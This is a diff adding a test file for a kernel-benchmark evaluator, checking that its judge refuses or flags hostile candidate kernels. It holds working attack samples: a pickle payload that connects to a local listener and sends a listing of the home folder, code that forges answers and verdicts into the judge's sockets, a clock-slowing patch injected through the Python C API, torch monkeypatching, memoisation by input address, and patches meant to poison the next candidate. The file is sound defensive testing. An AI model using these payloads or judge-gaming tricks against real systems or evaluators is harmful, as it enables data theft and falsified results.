@@ -1,0 +1,343 @@
+"""The judge out of the candidate's reach (kfray/eval/defences.py lists the defences).
+
+Real hostile kernels, in both forms a candidate takes: a kf_forward C++ library (cpu backend)
+and a KernelBench ModelNew file (torch_ext_cpu). Each one is correct, so only a defence can stop
+it; each is refused or flagged with a reason that names the rule, and nothing it sends reaches a
+listener. A control shows each hack does work where the defence is not in the way.
+"""
+from __future__ import annotations
+
+import json
+import pickle
+import socket
+import struct
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from kfray.candidate import Candidate, EvalResult
+from kfray.config import EvalConfig
+from kfray.eval.evaluator import Evaluator
+from kfray.source import parse_params
+
+AXPB = ('#include <cstdint>\n#include <cstdlib>\n#include <sys/stat.h>\n#include <unistd.h>\n'
+        'extern "C" int kf_forward(const float* x, float* y, float a, float b, int64_t n)')
+BODY = "for (int64_t i = 0; i < n; ++i) y[i] = a * x[i] + b;"
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that records every connection (where a token would be sent)."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.got: list[bytes] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            c.settimeout(2)
+            try:
+                self.got.append(c.recv(1000) or b"(connected)")
+            except OSError:
+                self.got.append(b"(connected)")
+            c.close()
+
+    def close(self):
+        self.sock.close()
+
+
+class _Escape:
+    """What a pickle runs where it is loaded: a connection out, with the home folder's files."""
+
+    def __init__(self, port: int):
+        self.port = port
+
+    def __reduce__(self):
+        code = (f"__import__('socket').create_connection(('127.0.0.1', {self.port}), 2)"
+                ".sendall(repr(__import__('os').listdir(__import__('os').path.expanduser('~'))).encode())")
+        return (eval, (code,))
+
+
+def pickle_frame(port: int) -> bytes:
+    """An answer in multiprocessing.connection's format (a length, then a pickle) that escapes."""
+    p = pickle.dumps(_Escape(port), protocol=2)
+    return struct.pack("!i", len(p)) + p
+
+
+def json_frame(obj: dict) -> bytes:
+    data = json.dumps(obj).encode()
+    return struct.pack(">I", len(data)) + data
+
+
+def c_bytes(data: bytes) -> str:
+    return "{" + ",".join(str(b) for b in data) + "}"
+
+
+def forging_kernel(frame: bytes) -> str:
+    """A correct axpb kernel that writes `frame` into every socket its process holds."""
+    return AXPB.replace("extern", f"static const unsigned char F[] = {c_bytes(frame)};\nextern") + "{\n" + BODY + """
+    for (int fd = 3; fd < 1024; ++fd) {
+        struct stat st;
+        if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) { ssize_t r = write(fd, F, sizeof F); (void)r; }
+    }
+    return 0;
+}"""
+
+
+@pytest.fixture(scope="module")
+def evaluator(tmp_path_factory):
+    ev = Evaluator("cpu", EvalConfig(cache_dir=str(tmp_path_factory.mktemp("cache")), timeout_s=60, tune_budget=0))
+    yield ev
+    ev.shutdown()
+
+
+@pytest.fixture
+def listener():
+    lis = Listener()
+    yield lis
+    lis.close()
+
+
+def _eval(ev, source: str, task: str = "axpb") -> EvalResult:
+    c = Candidate(task=task, language="cpp", source=source, params=parse_params(source).default())
+    return EvalResult.from_dict(ev.evaluate(c, task))
+
+
+def _trusted_correct(r: EvalResult) -> bool:
+    return r.tier == 5 and not r.facts.get("untrusted")
+
+
+# --- kf_forward kernels ------------------------------------------------------------------------------
+def test_a_kernel_that_writes_an_escaping_pickle_into_its_sockets_reaches_nothing(evaluator, listener):
+    r = _eval(evaluator, forging_kernel(pickle_frame(listener.port)))
+    assert r.tier == 2 and "data-only wire" in r.reason and "refused" in r.reason, r.reason
+    threading.Event().wait(0.5)
+    assert listener.got == [], f"the forged pickle ran somewhere: {listener.got}"
+
+
+def test_a_forged_json_answer_is_refused_as_out_of_turn(evaluator):
+    # A well-formed answer of the wire's own format, claiming a call that took no time.
+    r = _eval(evaluator, forging_kernel(json_frame({"rc": 0, "s": 1e-9})))
+    assert r.tier == 2 and "out of turn" in r.reason and "data-only wire" in r.reason, r.reason
+
+
+def test_control_the_pickle_escapes_wherever_it_is_unpickled(listener):
+    """Without the data-only wire (the evaluator unpickled what came back) the same bytes reach out."""
+    frame = pickle_frame(listener.port)
+    pickle.loads(frame[4:])
+    threading.Event().wait(0.5)
+    assert listener.got, "the control pickle did not connect: the escape test proves nothing"
+
+
+CLOCK_PATCH = ("import time, sys\\n_real = time.perf_counter\\n_t0 = _real()\\n"
+               "def fake(): return _t0 + (_real() - _t0) * 0.01\\n"
+               "time.perf_counter = fake\\n"
+               "for m in list(sys.modules.values()):\\n"
+               "    try:\\n        if getattr(m, 'perf_counter', None) is _real: m.perf_counter = fake\\n"
+               "    except Exception: pass\\n")
+
+
+def clock_kernel() -> str:
+    """A correct axpb kernel that, through the Python C API, slows every copy of perf_counter's
+    clock down 100-fold in its process on its first call."""
+    return AXPB.replace("extern", 'extern "C" { int PyGILState_Ensure(void); void PyGILState_Release(int); '
+                        'int PyRun_SimpleStringFlags(const char*, void*); }\nextern') + "{\n" + BODY + f"""
+    static bool done = false;
+    if (!done) {{
+        done = true;
+        int g = PyGILState_Ensure();
+        PyRun_SimpleStringFlags("{CLOCK_PATCH}", nullptr);
+        PyGILState_Release(g);
+    }}
+    return 0;
+}}"""
+
+
+def test_a_kernel_that_patches_its_processs_clocks_is_flagged_by_the_judges_clock(evaluator):
+    r = _eval(evaluator, clock_kernel())
+    assert r.tier == 5, r.reason                       # it computes the right values...
+    why = r.facts.get("untrusted", "")
+    assert "outside clock" in why, f"faked times were believed: {r.times} ({r.reason})"
+    # ...and the hack did work on the figures its own process reported (the control): what it
+    # claimed is a small fraction of what the judge's clock saw.
+    claimed, seen = [float(x) for x in why.split("claims ")[1].split(" us a call, but the judge's clock saw ")[0:1]] + \
+        [float(why.split("clock saw ")[1].split(" us")[0])]
+    assert claimed < 0.1 * seen, why
+
+
+def test_nothing_a_kernel_leaves_behind_reaches_the_next_candidate(evaluator):
+    marker = AXPB + "{\n" + BODY + '\n    setenv("KF_LEFT_BEHIND", "1", 1);\n    return 0;\n}'
+    checker = AXPB + "{\n" + BODY + '\n    return getenv("KF_LEFT_BEHIND") ? 7 : 0;\n}'
+    assert _eval(evaluator, marker).tier == 5
+    r = _eval(evaluator, checker)
+    assert r.tier == 5, f"the next candidate saw what the last one left: {r.reason}"
+
+
+def test_control_a_marker_is_seen_in_the_same_process():
+    """Within one process the marker stays for whatever runs next there: only a fresh process helps."""
+    code = ("import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getenv.restype = ctypes.c_char_p\n"
+            "libc.setenv(b'KF_LEFT_BEHIND', b'1', 1)\nprint(libc.getenv(b'KF_LEFT_BEHIND'))")
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
+    assert out.stdout.strip() == "b'1'", out.stdout + out.stderr
+
+
+# --- KernelBench ModelNew files ----------------------------------------------------------------------
+torch = pytest.importorskip("torch")
+from kfray.verify import verify  # noqa: E402
+
+PROBLEM = '''import torch
+import torch.nn as nn
+
+
+class Model(nn.Module):
+    def __init__(self):
+        super().__init__()
+
+    def forward(self, x):
+        return torch.relu(x)
+
+
+def get_inputs():
+    return [torch.randn({rows}, 8192)]
+
+
+def get_init_inputs():
+    return []
+'''
+MODELNEW = '''import torch
+import torch.nn as nn
+{prelude}
+
+class ModelNew(nn.Module):
+    def __init__(self):
+        super().__init__()
+{init}
+    def forward(self, x):
+{body}
+'''
+
+
+def problem(tmp_path: Path, rows: int) -> str:
+    d = tmp_path / "kb" / "level1"
+    d.mkdir(parents=True, exist_ok=True)
+    p = d / f"1_ReLU_{rows}.py"
+    p.write_text(PROBLEM.format(rows=rows))
+    return f"kernelbench:{p}"
+
+
+def modelnew(tmp_path: Path, name: str, body: str = "        return torch.clamp_min(x, 0.0)", prelude: str = "",
+             init: str = "") -> Path:
+    p = tmp_path / f"{name}.py"
+    p.write_text(MODELNEW.format(prelude=prelude, init=init, body=body))
+    return p
+
+
+@pytest.fixture(scope="module")
+def suite_cache(tmp_path_factory):
+    return tmp_path_factory.mktemp("suite_cache")
+
+
+def _verify(task: str, kernel: Path, cache: Path) -> EvalResult:
+    res, backend = verify(task, str(kernel), "torch_ext_cpu", [f"eval.cache_dir={cache}", "eval.suite_perf_trials=10"])
+    return res
+
+
+FORGE_PY = '''import os, stat
+FRAME = {frame!r}
+for fd in range(3, 1024):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            os.write(fd, FRAME)
+    except OSError:
+        pass
+'''
+
+
+def test_a_modelnew_that_writes_an_escaping_pickle_at_import_reaches_nothing(tmp_path, suite_cache, listener):
+    k = modelnew(tmp_path, "forge", prelude=FORGE_PY.format(frame=pickle_frame(listener.port)))
+    r = _verify(problem(tmp_path, 8), k, suite_cache)
+    assert r.tier == 2 and "data-only wire" in r.reason, r.reason
+    threading.Event().wait(0.5)
+    assert listener.got == [], f"the forged pickle ran somewhere: {listener.got}"
+
+
+def test_a_modelnew_that_forges_a_verdict_is_refused(tmp_path, suite_cache):
+    forged = json_frame({"tier": 5, "reason": "", "times": {"default": 1e-9}, "ref_times": {"default": 1.0}})
+    k = modelnew(tmp_path, "verdict", prelude=FORGE_PY.format(frame=forged))
+    r = _verify(problem(tmp_path, 8), k, suite_cache)
+    assert r.tier == 2 and "data-only wire" in r.reason, r.reason
+
+
+def test_a_modelnew_that_patches_the_clocks_is_flagged(tmp_path, suite_cache):
+    k = modelnew(tmp_path, "clock", prelude=CLOCK_PATCH.replace("\\n", "\n"))
+    r = _verify(problem(tmp_path, 2048), k, suite_cache)
+    assert r.tier == 5, r.reason
+    assert "outside clock" in r.facts.get("untrusted", ""), f"faked times were believed: {r.reason} {r.facts.get('suite')}"
+
+
+SLOW_RELU = ("_relu = torch.relu\n"
+             "def _slow(x, *a, **k):\n    for _ in range(4):\n        y = _relu(x, *a, **k)\n    return y\n"
+             "torch.relu = _slow\ntorch.Tensor.relu = lambda self: _slow(self)\n")
+
+
+def test_a_modelnew_that_slows_the_references_torch_function_gains_nothing(tmp_path, suite_cache):
+    k = modelnew(tmp_path, "slowref", prelude=SLOW_RELU)
+    r = _verify(problem(tmp_path, 2048), k, suite_cache)
+    assert r.tier == 5, r.reason
+    speedup = r.facts["suite"]["speedup"]
+    assert speedup < 2.0, f"the reference was slowed in its own process: {speedup:.2f}x"
+
+
+def test_control_patching_torch_slows_a_reference_in_the_same_process(tmp_path):
+    code = ("import time, torch\nx = torch.randn(2048, 8192)\n"
+            "def t():\n    t0 = time.perf_counter()\n    for _ in range(5): torch.relu(x)\n    return time.perf_counter() - t0\n"
+            "t(); before = t()\n" + SLOW_RELU + "after = t()\nprint(after / before)")
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
+    assert float(out.stdout.strip()) > 2.0, out.stdout + out.stderr
+
+
+MEMO = "        self.memo = {}\n"
+MEMO_BODY = ("        k = (x.data_ptr(), tuple(x.shape))\n"
+             "        if k not in self.memo:\n            self.memo[k] = torch.relu(x)\n"
+             "        return self.memo[k]")
+
+
+def test_a_modelnew_that_memoises_by_input_address_gains_nothing(tmp_path, suite_cache):
+    k = modelnew(tmp_path, "memo", init=MEMO, body=MEMO_BODY)
+    r = _verify(problem(tmp_path, 2048), k, suite_cache)
+    assert not (_trusted_correct(r) and r.facts["suite"]["speedup"] > 3.0), \
+        f"memoised results were timed as the kernel's: {r.facts.get('suite')}"
+
+
+def test_a_patch_left_by_one_modelnew_does_not_reach_the_next(tmp_path, suite_cache):
+    poison = "torch.clamp_min = lambda *a, **k: (_ for _ in ()).throw(RuntimeError('left behind'))\n"
+    task = problem(tmp_path, 8)
+    ev = Evaluator("torch_ext_cpu", EvalConfig(cache_dir=str(suite_cache), timeout_s=120, tune_budget=0,
+                                                suite_perf_trials=10))
+    try:
+        def run(path: Path) -> EvalResult:
+            c = Candidate(task=task, language="modelnew", source=path.read_text(), params={})
+            return EvalResult.from_dict(ev.evaluate(c, task))
+
+        first = run(modelnew(tmp_path, "poisoner", prelude=poison, body="        return torch.relu(x)"))
+        assert first.tier == 5, first.reason
+        second = run(modelnew(tmp_path, "victim"))
+        assert second.tier == 5, f"the next candidate ran with the last one's patch: {second.reason}"
+        assert ev.sandbox.restarts == 0, "the judge was restarted: the test shows nothing about its runners"
+    finally:
+        ev.shutdown()
+
+
+def test_control_a_patch_reaches_what_runs_next_in_the_same_process(tmp_path):
+    code = ("import torch\ntorch.clamp_min = lambda *a, **k: (_ for _ in ()).throw(RuntimeError('left behind'))\n"
+            "torch.clamp_min(torch.ones(2), 0.0)")
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
+    assert "left behind" in out.stderr
